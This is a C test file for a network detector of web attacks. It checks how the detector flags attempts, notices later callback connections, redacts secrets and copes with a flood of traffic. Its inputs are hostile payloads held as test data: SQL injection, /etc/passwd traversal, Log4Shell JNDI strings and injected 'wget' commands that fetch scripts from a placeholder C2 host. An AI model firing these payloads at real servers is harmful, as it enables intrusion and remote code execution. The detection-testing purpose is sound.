/* SPDX-License-Identifier: Apache-2.0 */
/* An attempt is told with its answer, or without one after a second; who was attacked and goes
 * where the attack said is told as broken into. Others are not. */
#include "web.h"

#include "hidden.h"

#include "flow/local.h"
#include "flow/table.h"

#include <time.h>

#define S 1000000000ull

extern const struct pk_detector pk_detect_web_attack;

static void test_answered(void **state)
{
	const struct pk_finding *f = &seen.finding[0];

	(void)state;
	see_begin("web_attack");
	see_get(S, 1, 9, "/a?id=1'+UNION+SELECT+1&password=hush");
	assert_int_equal(seen.n, 0); /* not yet */
	see_web(S, 1, 9, "HTTP/1.1 500 No\r\n\r\n");
	assert_int_equal(seen.n, 1);
	assert_int_equal(f->severity, PK_MEDIUM);
	assert_string_equal(f->technique[0], "T1190");
	assert_false(f->spoofable);
	assert_int_equal(f->remote[15], 9);
	assert_non_null(strstr(f->detail, "500"));
	assert_null(strstr(f->detail, "hush"));
	for (size_t i = 0; i < f->fields; i++)
		assert_null(strstr(f->field[i].value, "hush"));
	see_get(2 * S, 2, 9, "/b?id=1'+UNION+SELECT+1");
	see_web(2 * S, 2, 9, "HTTP/1.1 404 No\r\n\r\n");
	assert_int_equal(seen.n, 2);
	assert_true(seen.finding[0].fold == seen.finding[1].fold);
	see_end();
}

static void test_unanswered(void **state)
{
	(void)state;
	see_begin("web_attack");
	see_get(S, 1, 9, "/a?x=../../../../etc/passwd");
	see_get(S, 1, 9, "/a?x=../../../../etc/passwd"); /* as when more of its head came */
	pk_detect_tick(seen.detect, S + S / 2);
	assert_int_equal(seen.n, 0);
	pk_detect_tick(seen.detect, 3 * S);
	assert_int_equal(seen.n, 1);
	assert_true(seen.finding[0].spoofable);
	pk_detect_tick(seen.detect, 9 * S);
	assert_int_equal(seen.n, 1);
	see_end();
}

static void test_benign(void **state)
{
	(void)state;
	see_begin("web_attack");
	see_get(S, 1, 9, "/search?q=how+to+use+wget+and+curl");
	see_web(S, 1, 9, "HTTP/1.1 200 OK\r\n\r\n");
	see_web(S, 1, 9, "name=plain&text=no+attack"); /* more of a body */
	pk_detect_tick(seen.detect, 9 * S);
	assert_int_equal(seen.n, 0);
	see_end();
}

static void test_body(void **state)
{
	(void)state;
	see_begin("web_attack");
	see_web(S, 1, 9, "q=${jndi:rmi://x.example/a}");
	pk_detect_tick(seen.detect, 9 * S);
	assert_int_equal(seen.n, 1);
	see_end();
}

/* The attacked host opens a flow to 198.51.100.n. */
static void goes_to(uint8_t n, uint64_t at_ns, const struct pk_fact *fact)
{
	struct pk_flow_entry e = { .is_new = true, .flow.meta.id = 77 };
	struct pk_see s = { .kind = PK_SEE_FLOW, .now_ns = at_ns, .flow = &e, .fact = fact };

	e.flow.key = (struct pk_flow_key){ .netns = 1, .proto = IPPROTO_TCP };
	for (int d = 0; d < 2; d++)
		memset(e.flow.key.addr[d] + 10, 0xff, 2);
	memcpy(e.flow.key.addr[0] + 12, "\xc0\0\2\1", 4);
	memcpy(e.flow.key.addr[1] + 12, "\xc6\x33\x64", 3);
	e.flow.key.addr[1][15] = n;
	e.flow.key.port[1] = htons(1389);
	pk_detect_see(seen.detect, &s);
}

static void test_call(void **state)
{
	struct pk_fact fact = { .flow = 77, .dns = { NULL, "c2.example" } };
	struct pk_fact sni = { .flow = 77, .sni = "c2.example" };

	(void)state;
	see_begin("web_attack");
	see_web(S, 1, 9,
		"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: "
		"${${lower:j}ndi:ldap://198.51.100.7:1389/a}\r\n\r\n");
	see_web(S, 1, 9, "HTTP/1.1 200 OK\r\n\r\n");
	assert_int_equal(seen.n, 1);
	goes_to(8, 2 * S, NULL); /* elsewhere */
	assert_int_equal(seen.n, 1);
	goes_to(7, 2 * S, NULL);
	assert_int_equal(seen.n, 2);
	assert_int_equal(seen.finding[1].severity, PK_HIGH);
	assert_int_equal(seen.finding[1].remote[15], 7);
	goes_to(7, 3 * S, NULL); /* told */
	assert_int_equal(seen.n, 2);
	see_get(S, 2, 9, "/?x=;wget+http://c2.example/x.sh");
	see_web(S, 2, 9, "HTTP/1.1 200 OK\r\n\r\n");
	assert_int_equal(seen.n, 3);
	fact.dns[1] = "other.example";
	goes_to(8, 4 * S, &fact);
	assert_int_equal(seen.n, 3);
	goes_to(8, 3600 * S, &sni); /* too late */
	assert_int_equal(seen.n, 3);
	goes_to(8, 5 * S, &sni);
	assert_int_equal(seen.n, 4);
	see_end();
}

static void test_out(void **state)
{
	uint8_t own[16] = { [10] = 0xff, 0xff, 10, 0, 0, 9 };

	(void)state;
	seen.world.local = pk_local_new(16, false);
	pk_local_add(seen.world.local, 1, own, 128);
	see_begin("web_attack");
	see_get(S, 1, 9, "/?x=;wget+http://192.0.2.9/x");
	see_web(S, 1, 9, "HTTP/1.1 200 OK\r\n\r\n");
	assert_int_equal(seen.n, 1);
	assert_int_equal(seen.finding[0].severity, PK_HIGH);
	assert_int_equal(seen.finding[0].remote[15], 1); /* not this host */
	pk_local_free(seen.world.local);
	see_end();
}

/* Attacks by anybody that name any place, and nobody answers. */
static void noise(uint64_t now_ns)
{
	static uint64_t flow = 1000;
	char target[80];

	for (unsigned i = 0; i < 1000; i++) {
		snprintf(target, sizeof(target), "/?x=${jndi:ldap://h%08x.example/a}",
			 hidden_random());
		see_get(now_ns, ++flow, hidden_random() | 1u << 23, target);
	}
}

/* One worked, three seconds later. The server also goes where nobody told it to, and is asked for
 * what is no attack. */
static void play(uint64_t now_ns, unsigned second)
{
	if (second == 300)
		see_get(now_ns, 1, 9, "/?x=${jndi:ldap://198.51.100.7/a}");
	if (second == 303)
		goes_to(7, now_ns, NULL);
	goes_to(8, now_ns, NULL);
	see_get(now_ns, 2, 10, "/search?q=how+to+use+wget+and+curl");
}

static bool has_worked(const struct pk_finding *f)
{
	return strstr(f->title, "worked") && f->remote[15] == 7;
}

static bool is_twin(const struct pk_finding *f)
{
	return (strstr(f->title, "worked") && f->remote[15] != 7) ||
	       (f->remote[13] == 0 && f->remote[15] == 10);
}

static size_t attempts;

static void watch(const struct pk_finding *f)
{
	attempts += !strstr(f->title, "worked");
	hidden_watch(f);
}

/* The one that worked is told, and no attempt is lost to make room. */
static void test_hidden_in_flood(void **state)
{
	static const struct hidden flood = { "web_attack", noise, play, has_worked, is_twin };

	(void)state;
	see_begin("web_attack");
	seen.watch = watch;
	hidden_judge(&flood);
	pk_detect_tick(seen.detect, (HIDDEN_SECONDS + 9) * S);
	assert_int_equal(attempts, HIDDEN_SECONDS * 1000 + 1);
	see_end();
}

/* Not judged: machines differ. */
static void test_cost(void **state)
{
	static const char *const requests[] = {
		"GET /index.html?id=7 HTTP/1.1\r\nHost: www.example\r\nUser-Agent: Mozilla/5.0 "
		"(X11; "
		"Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0\r\nAccept: text/html,*/*\r\n"
		"Accept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate\r\nCookie: "
		"session=0123456789abcdef0123456789abcdef\r\nConnection: keep-alive\r\n\r\n",
		"GET /?x=%24%7B%24%7Blower:j%7Dndi:ldap://192.0.2.9/a%7D HTTP/1.1\r\n\r\n",
	};

	(void)state;
	for (size_t i = 0; i < PK_ARRAY_SIZE(requests); i++) {
		struct timespec a, b;

		see_begin("web_attack");
		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &a);
		for (unsigned k = 0; k < 20000; k++)
			see_web(S, 1, 9, requests[i]);
		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &b);
		print_message(
			"%zu bytes: %.0f ns a request\n", strlen(requests[i]),
			((double)(b.tv_sec - a.tv_sec) * 1e9 + (double)(b.tv_nsec - a.tv_nsec)) /
				20000);
		see_end();
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_answered),
		cmocka_unit_test(test_unanswered),
		cmocka_unit_test(test_benign),
		cmocka_unit_test(test_body),
		cmocka_unit_test(test_call),
		cmocka_unit_test(test_out),
		cmocka_unit_test(test_hidden_in_flood),
		cmocka_unit_test(test_cost),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
